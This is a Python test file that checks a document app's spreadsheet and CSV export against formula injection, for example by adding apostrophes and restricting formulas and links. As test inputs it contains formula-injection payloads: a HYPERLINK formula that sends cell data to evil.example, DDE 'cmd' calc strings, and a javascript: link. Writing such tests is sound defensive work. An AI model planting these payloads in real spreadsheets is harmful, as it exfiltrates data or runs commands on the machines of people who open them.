"""Spreadsheets compute nothing that came from a document; numbers stay numbers."""

import csv
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.conf import settings
from django.core.management import call_command

from documents.library.spreadsheets import Cell, Formula, Sheet, WorkbookFile, guarded, is_formula
from tests import factories
from tests.cases import every_case

FORMULA = 'HYPERLINK("https://evil.example/?"&A1)'
UNSEEN = [
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\ufeff",
    "\u200b",
    "\u00a0",
    "\u3000",
    "\u2060",
    "\u202e",
    "\x00",
]
SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁺", "⁼"]
PACKAGES = ("agentic", "chat", "documents", "llm", "ragsite", "retrieval", "samples")


@every_case("before", [*UNSEEN, "\ufeff \t", "\u200b\u200b"])
@every_case("sign", SIGNS)
def test_what_begins_like_a_formula_gets_an_apostrophe(before, sign):
    cell = f"{before}{sign}{FORMULA}"
    assert guarded(cell).startswith("'")
    assert guarded(cell).replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize(
    "cell", ["\tcmd", "\rcmd", "\n=1", "@SUM(1)", "-1+cmd|' /C calc'!A0", "+1;=2", "=1", "-A1"]
)
def test_other_ways_in_are_closed(cell):
    assert guarded(cell).startswith("'")
    assert guarded(cell).replace("'", "") == cell.replace("'", "")


@every_case(
    "cell",
    [
        "-5",
        "-5.25",
        "+3",
        "-1,234.5",
        "-1.234,5",
        "-12%",
        "-1e-5",
        "- 5",
        "-$5",
        "-€ 1,000",
        " -5",
        "-.5",
        -5,
        -5.5,
        0,
    ],
)
def test_numbers_stay_numbers(cell):
    assert guarded(cell) == cell


@every_case("cell", ["", " ", "-", "–", "— none", "Revenue", "a=b", "5 - 3", "x@example.com", "'=1", "(5)"])
def test_other_words_stay_as_they_are(cell):
    assert guarded(cell) == cell


@every_case("separator", [";", "\t", "\n", "\r\n", "; ", ";\ufeff"])
@every_case("formula", ["=1", "＝cmd()", "@SUM(1)", "-1+cmd|' /C calc'!A0", "+A1+(2)"])
def test_a_formula_after_another_countrys_separator_is_guarded(separator, formula):
    out = io.StringIO()
    Sheet(out).row(["a", f"words{separator}{formula}"])
    for row in csv.reader(io.StringIO(out.getvalue()), delimiter=";"):
        assert not any(is_formula(cell) for cell in row), row
    assert "words" in out.getvalue()


@pytest.mark.parametrize("cell", ["Revenue 5; -3 in 2020", "a;b", "up 2%\n- one\n- two", "x;"])
def test_lists_and_lines_stay_as_they_are(cell):
    assert guarded(cell) == cell


def test_nothing_stands_for_an_empty_cell_and_headings_are_guarded_too():
    out = io.StringIO()
    Sheet(out).row(["=1", None, -2])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1", "", "-2"]


def test_no_other_place_writes_a_sheet():
    loading = "agentic/sources/drivers/duckdb.py"  # a file between a table and DuckDB, which nobody opens
    other = re.compile(r"csv\.(writer|DictWriter)|\bWorkbook\(|xlsxwriter|to_csv|to_excel")
    writing = {
        str(path.relative_to(settings.BASE_DIR))
        for package in PACKAGES
        for path in (settings.BASE_DIR / package).rglob("*.py")
        if other.search(path.read_text())
    }
    assert writing == {"documents/library/spreadsheets.py", loading}


def test_facts_are_written_without_formulas(user, workspace):
    document = factories.DocumentFactory(workspace=workspace, filename="=cmd.pdf")
    factories.ClaimFactory(document=document, claim_text="\ufeff＝cmd()", quote="+cmd()")
    out = io.StringIO()
    call_command("facts", "--workspace", "mine", "--kind", "claim", stdout=out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["document"] == "'=cmd.pdf"
    assert row["claim_text"] == "'\ufeff＝cmd()"
    assert row["quote"] == "'+cmd()"


def opened(book):
    return openpyxl.load_workbook(io.BytesIO(book.content()))


@pytest.mark.parametrize(
    "words", ["=cmd()", "=1+1", "+A1", "@SUM(1)", "\ufeff=1", "＝cmd()", "-1+cmd|' /C'!A0"]
)
def test_in_a_workbook_words_stay_words(words):
    book = WorkbookFile()
    book.sheet("Years", [[Cell(words)]])
    cell = opened(book)["Years"]["A1"]
    assert (cell.value, cell.data_type) == (words, "s")
    assert cell.quotePrefix


def test_a_formula_of_our_own_is_computed_and_a_number_stays_one():
    book = WorkbookFile()
    book.sheet("Years", [[Cell(Decimal("10.5"), form="0.0%"), Cell(3), Cell(Formula("=(A1+B1)/2"))]])
    first, second, third = opened(book)["Years"][1]
    assert (first.value, first.number_format, second.value) == (10.5, "0.0%", 3)
    assert (third.value, third.data_type) == ("=(A1+B1)/2", "f")


@pytest.mark.parametrize(
    "text",
    [
        "A1",
        "=cmd()",
        '=HYPERLINK("https://evil.example/")',
        "=A1;B1",
        "=A1|B",
        "=SUM(A1)",
        "=Notes!A1",
        "=",
        "=A0",
    ],
)
def test_only_cells_numbers_and_arithmetic_make_a_formula(text):
    with pytest.raises(ValueError, match="no formula"):
        Formula(text)


def test_cells_lead_to_pages_and_nowhere_else():
    page = "https://here.example/w/mine/documents/1/?page=2"
    book = WorkbookFile()
    long = f"https://here.example/{'x' * 2000}"
    book.sheet(
        "Years", [[Cell(1, address=page), Cell(1, address="javascript:alert(1)"), Cell(1, address=long)]]
    )
    linked, *others = opened(book)["Years"][1]
    assert linked.hyperlink.target == page
    assert [cell.hyperlink for cell in others] == [None, None]


def test_what_a_workbook_cannot_hold_is_left_out():
    book = WorkbookFile()
    book.sheet("Years", [[Cell("a\x00b\x0bc\ud800d"), Cell("x" * 40_000)]])
    first, second = opened(book)["Years"][1]
    assert first.value == "abcd"
    assert len(second.value) == 32_000
